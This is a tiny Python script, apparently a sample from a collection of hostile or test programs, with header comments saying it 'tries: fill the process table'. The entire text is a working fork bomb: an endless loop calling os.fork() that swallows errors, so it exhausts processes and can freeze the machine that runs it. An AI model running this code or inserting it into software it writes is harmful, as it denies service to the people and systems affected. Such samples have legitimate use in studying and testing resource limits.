# tries: fill the process table
# earns: all
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
